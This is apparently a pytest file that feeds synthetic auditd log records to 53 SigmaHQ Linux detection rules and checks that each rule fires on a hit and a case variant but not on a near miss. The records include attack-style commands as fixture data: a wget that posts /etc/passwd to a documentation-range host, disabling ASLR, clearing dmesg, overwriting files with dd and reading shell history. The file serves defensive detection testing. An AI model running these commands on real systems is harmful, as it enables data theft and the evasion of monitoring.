"""SigmaHQ's 53 auditd rules, unmodified, each with an audit record that fires it, the same record
in another letter case, and a near miss: the rule fires on the first two and not on the third,
on SQLite and on Elasticsearch. The records are audit.log lines in auditd's own formats (RAW, and
ENRICHED for the SYSCALL records whose rules name the ``SYSCALL`` key), ingested through the real
linux.auditd parser and run by the real detection pass.

Every record here is composed (named so by this docstring), in the shape of the records in
elastic/integrations' auditd test logs; the values are what each rule's description says.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from govsoc.collectors import ingest_file
from govsoc.rules import detect, load_rules
from govsoc.rules.pipeline import rule_source_status
from govsoc.store.base import Query, Store

AUDITD = "sigma/rules/linux/auditd"
T0 = datetime(2026, 11, 30, 3, 0, tzinfo=UTC)
KINDS = ("hit", "case", "miss")
SYSCALLS = {"execve": 59, "openat": 257, "connect": 42, "syslog": 103, "sysinfo": 99, "mknod": 133,
            "finit_module": 313, "personality": 135, "memfd_create": 319}


def execve(*args: str) -> str:
    """An EXECVE record (its arguments hold no space: auditd would hex-encode them)."""
    return f"type=EXECVE msg=audit({{stamp}}): argc={len(args)} " + " ".join(
        f'a{i}="{arg}"' for i, arg in enumerate(args))


def syscall(name: str = "openat", *, exe: str = "/usr/bin/cat", comm: str = "cat", a0: str = "3", euid: str = "0",
            key: str = "(null)") -> str:
    """A SYSCALL record in the ENRICHED format (the names after the 0x1d separator)."""
    number = SYSCALLS.get(name.lower(), 0)
    shown = f'"{key}"' if key != "(null)" else key
    return (f"type=SYSCALL msg=audit({{stamp}}): arch=c000003e syscall={number} success=yes exit=0 a0={a0} a1=0 "
            f"a2=0 a3=0 items=1 ppid=1 pid=4242 auid=1000 uid=0 gid=0 euid={euid} suid=0 fsuid=0 egid=0 sgid=0 "
            f'fsgid=0 tty=pts0 ses=1 comm="{comm}" exe="{exe}" key={shown}'
            f'\x1dARCH=x86_64 SYSCALL={name} AUID="alice" UID="root" GID="root" EUID="root"')


def path(name: str, nametype: str = "NORMAL") -> str:
    """A PATH record."""
    return (f'type=PATH msg=audit({{stamp}}): item=0 name="{name}" inode=1048 dev=08:01 mode=0100644 ouid=0 '
            f"ogid=0 rdev=00:00 nametype={nametype} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0")


def service_stop(unit: str) -> str:
    """A SERVICE_STOP record (systemd's)."""
    return (f"type=SERVICE_STOP msg=audit({{stamp}}): pid=1 uid=0 auid=4294967295 ses=4294967295 "
            f"subj=unconfined msg='unit={unit} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? "
            f"addr=? terminal=? res=success'")


@dataclass(frozen=True)
class Audit:
    """A rule over audit records: a record that fires it, the same in another case, and a near miss."""

    rule: str
    hit: str
    case: str
    miss: str


AUDIT = [
    # |all of 'truncate' and '-s': a file grown by padding; truncate -c does not pad
    Audit("execve/lnx_auditd_binary_padding.yml", execve("truncate", "-s", "+5000", "/tmp/b"),
          execve("TRUNCATE", "-S", "+5000", "/TMP/B"), execve("truncate", "-c", "/tmp/b")),
    # the keyword is read in the command line (the record's message); another port is no BPFDoor
    Audit("execve/lnx_auditd_bpfdoor_port_redirect.yml",
          execve("/sbin/iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "--dport", "443", "-j", "REDIRECT",
                 "--to-ports", "42391"),
          execve("/SBIN/IPTABLES", "-T", "NAT", "-A", "PREROUTING", "-P", "TCP", "--DPORT", "443", "-J", "REDIRECT",
                 "--TO-PORTS", "42391"),
          execve("/sbin/iptables", "-t", "nat", "-A", "PREROUTING", "-p", "tcp", "--dport", "443", "-j", "REDIRECT",
                 "--to-ports", "8080")),
    # a recursive search from /; one folder is routine
    Audit("execve/lnx_auditd_capabilities_discovery.yml", execve("getcap", "-r", "/"), execve("GETCAP", "-R", "/"),
          execve("getcap", "-r", "/usr/bin")),
    # touch with a time option; plain touch only creates
    Audit("execve/lnx_auditd_change_file_time_attr.yml", execve("touch", "-t", "202001010000", "/tmp/f"),
          execve("TOUCH", "-T", "202001010000", "/TMP/F"), execve("touch", "/tmp/f")),
    # the immutable flag removed; +i sets it
    Audit("execve/lnx_auditd_chattr_immutable_removal.yml", execve("chattr", "-i", "/etc/passwd"),
          execve("CHATTR", "-I", "/ETC/PASSWD"), execve("chattr", "+i", "/etc/passwd")),
    # the clipboard read out (-o); -i writes it
    Audit("execve/lnx_auditd_clipboard_collection.yml", execve("xclip", "-sel", "clip", "-o"),
          execve("XCLIP", "-SEL", "CLIP", "-O"), execve("xclip", "-sel", "clip", "-i")),
    # an image read out of the clipboard; text is the other rule's
    Audit("execve/lnx_auditd_clipboard_image_collection.yml",
          execve("xclip", "-selection", "clipboard", "-t", "image/png", "-o"),
          execve("XCLIP", "-SELECTION", "CLIPBOARD", "-T", "IMAGE/PNG", "-O"),
          execve("xclip", "-selection", "clipboard", "-t", "text/plain", "-o")),
    # a miner's CPU priority option (no record type in the rule); another miner option is not it
    Audit("execve/lnx_auditd_coinminer.yml", execve("xmrig", "--cpu-priority=5"),
          execve("XMRIG", "--CPU-PRIORITY=5"), execve("xmrig", "--cpu-max-threads-hint=50")),
    # tar creating an archive (the rule writes type 'execve' in lower case); extracting is not collection
    Audit("execve/lnx_auditd_data_compressed.yml", execve("tar", "-czf", "/tmp/x.tgz", "/etc"),
          execve("TAR", "-CZF", "/TMP/X.TGZ", "/ETC"), execve("tar", "-xzf", "/tmp/x.tgz")),
    # a file posted out; posted data is not a file
    Audit("execve/lnx_auditd_data_exfil_wget.yml", execve("wget", "--post-file=/etc/passwd", "http://203.0.113.9/"),
          execve("WGET", "--POST-FILE=/ETC/PASSWD", "HTTP://203.0.113.9/"),
          execve("wget", "--post-data=x", "http://203.0.113.9/")),
    # a file overwritten with zeros; a disk read out is not deletion
    Audit("execve/lnx_auditd_dd_delete_file.yml", execve("dd", "if=/dev/zero", "of=/tmp/f"),
          execve("DD", "IF=/DEV/ZERO", "OF=/TMP/F"), execve("dd", "if=/dev/sda", "of=/tmp/img")),
    # chmod; chgrp is in neither list
    Audit("execve/lnx_auditd_file_or_folder_permissions.yml", execve("chmod", "600", "/tmp/f"),
          execve("CHMOD", "600", "/TMP/F"), execve("chgrp", "staff", "/tmp/f")),
    # grep for password; passwd is another word
    Audit("execve/lnx_auditd_find_cred_in_files.yml", execve("grep", "-ri", "password", "/etc"),
          execve("GREP", "-RI", "PASSWORD", "/ETC"), execve("grep", "-ri", "passwd", "/etc")),
    # a hidden directory made (|re is case-sensitive, and matches the upper-case name as well)
    Audit("execve/lnx_auditd_hidden_files_directories.yml", execve("mkdir", "/tmp/.hidden"),
          execve("MKDIR", "/TMP/.HIDDEN"), execve("mkdir", "/tmp/visible")),
    # an image and a zip concatenated; a text file is not a hidden archive
    Audit("execve/lnx_auditd_hidden_zip_files_steganography.yml", execve("cat", "a.jpg", "b.zip"),
          execve("CAT", "A.JPG", "B.ZIP"), execve("cat", "a.jpg", "b.txt")),
    # a shell copied to a name that passes for crond
    Audit("execve/lnx_auditd_masquerading_crond.yml", execve("cp", "/bin/sh", "/tmp/crond"),
          execve("CP", "/BIN/SH", "/TMP/CROND"), execve("cp", "/bin/sh", "/tmp/shell")),
    # a firewall rule deleted; allowing is not weakening
    Audit("execve/lnx_auditd_modify_system_firewall.yml", execve("ufw", "delete", "allow", "22"),
          execve("UFW", "DELETE", "ALLOW", "22"), execve("ufw", "allow", "22")),
    # a live capture on an interface; writing a file without -i is not the rule
    Audit("execve/lnx_auditd_network_sniffing.yml", execve("tcpdump", "-c", "100", "-i", "eth0"),
          execve("TCPDUMP", "-C", "100", "-I", "ETH0"), execve("tcpdump", "-c", "100", "-w", "/tmp/p")),
    # the root window saved as an image; a text file is no screenshot
    Audit("execve/lnx_auditd_screencapture_import.yml", execve("import", "-window", "root", "/tmp/s.png"),
          execve("IMPORT", "-WINDOW", "ROOT", "/TMP/S.PNG"), execve("import", "-window", "root", "/tmp/s.txt")),
    # xwd writing a dump; another suffix is not the rule's
    Audit("execve/lnx_auditd_screencaputre_xwd.yml", execve("xwd", "-root", "-out", "/tmp/s.xwd"),
          execve("XWD", "-ROOT", "-OUT", "/TMP/S.XWD"), execve("xwd", "-root", "-out", "/tmp/s.png")),
    # data embedded in a cover file; a passphrase in the fourth place is not -ef
    Audit("execve/lnx_auditd_steghide_embed_steganography.yml",
          execve("steghide", "embed", "-cf", "c.jpg", "-ef", "s.txt"),
          execve("STEGHIDE", "EMBED", "-CF", "C.JPG", "-EF", "S.TXT"),
          execve("steghide", "embed", "-cf", "c.jpg", "-p", "pw")),
    # data extracted from an image; from a sound file is not the rule's
    Audit("execve/lnx_auditd_steghide_extract_steganography.yml", execve("steghide", "extract", "-sf", "c.jpg"),
          execve("STEGHIDE", "EXTRACT", "-SF", "C.JPG"), execve("steghide", "extract", "-sf", "c.wav")),
    # chmod 777 (a number in the rule, text in the record); 755 is not
    Audit("execve/lnx_auditd_susp_cmds.yml", execve("chmod", "777", "/tmp/x"), execve("CHMOD", "777", "/TMP/X"),
          execve("chmod", "755", "/tmp/x")),
    # a shell history read; .bashrc is no history
    Audit("execve/lnx_auditd_susp_histfile_operations.yml", execve("cat", "/root/.bash_history"),
          execve("CAT", "/ROOT/.BASH_HISTORY"), execve("cat", "/root/.bashrc")),
    # 'restart' contains 'start'; status changes nothing
    Audit("execve/lnx_auditd_susp_service_reload_or_restart.yml", execve("systemctl", "restart", "nginx"),
          execve("SYSTEMCTL", "RESTART", "NGINX"), execve("systemctl", "status", "nginx")),
    # shutdown; uptime is in no list
    Audit("execve/lnx_auditd_system_shutdown_reboot.yml", execve("shutdown", "-h", "now"),
          execve("SHUTDOWN", "-H", "NOW"), execve("uptime")),
    # an image unzipped; a zip file is an ordinary archive
    Audit("execve/lnx_auditd_unzip_hidden_zip_files_steganography.yml", execve("unzip", "c.jpg"),
          execve("UNZIP", "C.JPG"), execve("unzip", "c.zip")),
    # whoami; whois looks up a domain
    Audit("execve/lnx_auditd_user_discovery.yml", execve("whoami"), execve("WHOAMI"), execve("whois", "example.org")),
    # arecord with the rule's options; listing devices records nothing
    Audit("lnx_auditd_audio_capture.yml", execve("arecord", "-vv", "-fdat", "/tmp/a.wav"),
          execve("ARECORD", "-VV", "-FDAT", "/TMP/A.WAV"), execve("arecord", "-l")),
    # ASLR switched off; 2 switches it fully on
    Audit("lnx_auditd_disable_aslr_protection.yml", execve("sysctl", "-w", "kernel.randomize_va_space=0"),
          execve("SYSCTL", "-W", "KERNEL.RANDOMIZE_VA_SPACE=0"), execve("sysctl", "-w", "kernel.randomize_va_space=2")),
    # the PAM stack a keylogger is added to; sshd's own PAM file is not in the list
    Audit("lnx_auditd_keylogging_with_pam_d.yml", path("/etc/pam.d/system-auth"), path("/ETC/PAM.D/SYSTEM-AUTH"),
          path("/etc/pam.d/sshd")),
    # the password ageing of a user listed; -d 0 changes it
    Audit("lnx_auditd_password_policy_discovery.yml", execve("chage", "-l", "alice"),
          execve("CHAGE", "-L", "ALICE"), execve("chage", "-d", "0", "alice")),
    # the audit key the rule's audit rules set; a key that merely starts the same is another
    Audit("lnx_auditd_susp_c2_commands.yml", syscall("execve", key="susp_activity"),
          syscall("execve", key="SUSP_ACTIVITY"), syscall("execve", key="susp_activity_2")),
    # lsmod lists kernel modules; lsof is not in the list
    Audit("lnx_auditd_system_info_discovery.yml", execve("lsmod"), execve("LSMOD"), execve("lsof")),
    # audit's configuration touched; /etc/audit.conf is no such file of the rule
    Audit("path/lnx_auditd_auditing_config_change.yml", path("/etc/audit/auditd.conf"),
          path("/ETC/AUDIT/AUDITD.CONF"), path("/etc/audit.conf")),
    # one of BPFDoor's pid files; one letter less is not
    Audit("path/lnx_auditd_bpfdoor_file_accessed.yml", path("/var/run/haldrund.pid"), path("/VAR/RUN/HALDRUND.PID"),
          path("/var/run/haldrun.pid")),
    # a binary in a hidden folder; ~/.cache is the rule's own exception
    Audit("path/lnx_auditd_hidden_binary_execution.yml", path("/tmp/.x/payload"), path("/TMP/.X/PAYLOAD"),
          path("/home/u/.cache/x")),
    # the preload file; the loader's configuration is not
    Audit("path/lnx_auditd_ld_so_preload_mod.yml", path("/etc/ld.so.preload"), path("/ETC/LD.SO.PRELOAD"),
          path("/etc/ld.so.conf")),
    # rsyslog's main file; a drop-in folder file is not in the list
    Audit("path/lnx_auditd_logging_config_change.yml", path("/etc/rsyslog.conf"), path("/ETC/RSYSLOG.CONF"),
          path("/etc/rsyslog.d/50-default.conf")),
    # the SysRq switch; a backup of the trigger does not end as the rule says
    Audit("path/lnx_auditd_magic_system_request_key.yml", path("/proc/sys/kernel/sysrq"),
          path("/PROC/SYS/KERNEL/SYSRQ"), path("/proc/sysrq-trigger.bak")),
    # /proc/version read; one letter more is another file
    Audit("path/lnx_auditd_system_info_discovery2.yml", path("/proc/version"), path("/PROC/VERSION"),
          path("/proc/versions")),
    # a unit file created; the same file only read (NORMAL) is not creation
    Audit("path/lnx_auditd_systemd_service_creation.yml", path("/etc/systemd/system/evil.service", "CREATE"),
          path("/ETC/SYSTEMD/SYSTEM/EVIL.SERVICE", "create"), path("/etc/systemd/system/evil.service")),
    # the login shell's profile; a backup copy is not read by shells
    Audit("path/lnx_auditd_unix_shell_configuration_modification.yml", path("/etc/profile"), path("/ETC/PROFILE"),
          path("/etc/profile.bak")),
    # the firewall service stopped; sshd stopping is not the firewall
    Audit("service_stop/lnx_auditd_disable_system_firewall.yml", service_stop("firewalld"),
          service_stop("FIREWALLD"), service_stop("sshd")),
    # the kernel ring buffer cleared (a0 5, a number in the rule); reading it (3) clears nothing
    Audit("syscall/lnx_auditd_clean_disable_dmesg_logs_via_syslog.yml",
          syscall("syslog", exe="/usr/bin/dmesg", comm="dmesg", a0="5"),
          syscall("SYSLOG", exe="/usr/bin/dmesg", comm="dmesg", a0="5"),
          syscall("syslog", exe="/usr/bin/dmesg", comm="dmesg", a0="3")),
    # useradd running; userdel is the opposite
    Audit("syscall/lnx_auditd_create_account.yml", syscall("execve", exe="/usr/sbin/useradd", comm="useradd"),
          syscall("execve", exe="/USR/SBIN/USERADD", comm="useradd"),
          syscall("execve", exe="/usr/sbin/userdel", comm="userdel")),
    # insmod is kmod under another name; modprobe is kmod too but not insmod
    Audit("syscall/lnx_auditd_load_module_insmod.yml",
          syscall("finit_module", exe="/usr/bin/kmod", comm="insmod"),
          syscall("finit_module", exe="/USR/BIN/KMOD", comm="INSMOD"),
          syscall("finit_module", exe="/usr/bin/kmod", comm="modprobe")),
    # nmap connecting under the rule's audit key; curl is no scanner
    Audit("syscall/lnx_auditd_network_service_scanning.yml",
          syscall("connect", exe="/usr/bin/nmap", comm="nmap", key="network_connect_4"),
          syscall("connect", exe="/USR/BIN/NMAP", comm="nmap", key="NETWORK_CONNECT_4"),
          syscall("connect", exe="/usr/bin/curl", comm="curl", key="network_connect_4")),
    # split; a program whose name starts so is another
    Audit("syscall/lnx_auditd_split_file_into_pieces.yml", syscall(exe="/usr/bin/split", comm="split"),
          syscall(exe="/usr/bin/split", comm="SPLIT"), syscall(exe="/usr/bin/splitter", comm="splitter")),
    # sysinfo from an unknown program; Splunk's daemon is the rule's exception
    Audit("syscall/lnx_auditd_susp_discovery_sysinfo_syscall.yml", syscall("sysinfo", exe="/tmp/x", comm="x"),
          syscall("SYSINFO", exe="/tmp/x", comm="x"),
          syscall("sysinfo", exe="/opt/splunk/bin/splunkd", comm="splunkd")),
    # a program run from /tmp; /opt/tmp is not /tmp
    Audit("syscall/lnx_auditd_susp_exe_folders.yml", syscall("execve", exe="/tmp/payload", comm="payload"),
          syscall("execve", exe="/TMP/PAYLOAD", comm="payload"),
          syscall("execve", exe="/opt/tmp/payload", comm="payload")),
    # mknod; mknodat is another system call
    Audit("syscall/lnx_auditd_susp_special_file_creation_via_mknod_syscall.yml", syscall("mknod"),
          syscall("MKNOD"), syscall("mknodat")),
    # a program started by www-data (euid 33, a number in the rule); root's is not the web server's
    Audit("syscall/lnx_auditd_web_rce.yml", syscall("execve", exe="/bin/sh", comm="sh", euid="33"),
          syscall("EXECVE", exe="/bin/sh", comm="sh", euid="33"),
          syscall("execve", exe="/bin/sh", comm="sh", euid="0")),
]


def test_every_auditd_rule_has_its_row(corpus: Path) -> None:
    names = [row.rule for row in AUDIT]
    assert len(set(names)) == len(names) == 53
    ruleset = load_rules([corpus / AUDITD])
    assert ruleset.errors == []
    active = {ruleset.files[str(r.id)].relative_to(corpus / AUDITD).as_posix()
              for r in ruleset.rules if rule_source_status(r)[0]}
    assert active == set(names)


def write_records(log: Path) -> dict[int, tuple[str, str]]:
    """audit.log; returns serial -> (rule, kind) (each record has its own serial)."""
    owners: dict[int, tuple[str, str]] = {}
    with log.open("w", encoding="utf-8") as out:
        for n, row in enumerate(AUDIT):
            for k, kind in enumerate(KINDS):
                serial = 5000 + 3 * n + k
                stamp = T0 + timedelta(seconds=serial)
                out.write(getattr(row, kind).format(stamp=f"{int(stamp.timestamp())}.000:{serial}") + "\n")
                owners[serial] = (row.rule, kind)
    return owners


@pytest.mark.es
@pytest.mark.parametrize("kind", ["sqlite", "elasticsearch"])
def test_auditd_rules_fire_on_their_records_only(kind: str, request: pytest.FixtureRequest, corpus: Path,
                                                 tmp_path: Path) -> None:
    store: Store = request.getfixturevalue("sqlite_store" if kind == "sqlite" else "elastic9_store")
    log = tmp_path / "audit.log"
    owners = write_records(log)
    summary = ingest_file(log, parser_id="linux.auditd", store=store, data_dir=tmp_path / "state")
    assert (summary.receipt.created, summary.parse_failures) == (3 * len(AUDIT), 0)
    ruleset = load_rules([corpus / AUDITD / row.rule for row in AUDIT])
    result = detect(store, ruleset)
    assert (result.rules, result.failed, result.no_source) == (len(AUDIT), [], {})
    serial = {e.id: e.get("auditd.log.sequence") for e in store.search(Query())}
    fired: dict[str, set[str]] = {}
    for alert in store.alerts():
        rule = ruleset.files[alert.rule_id].relative_to(corpus / AUDITD).as_posix()
        fired.setdefault(rule, set()).update(owners[serial[e]][1] for e in alert.event_ids
                                             if owners[serial[e]][0] == rule)
    assert {row.rule: fired.get(row.rule, set()) for row in AUDIT} == {row.rule: {"hit", "case"} for row in AUDIT}
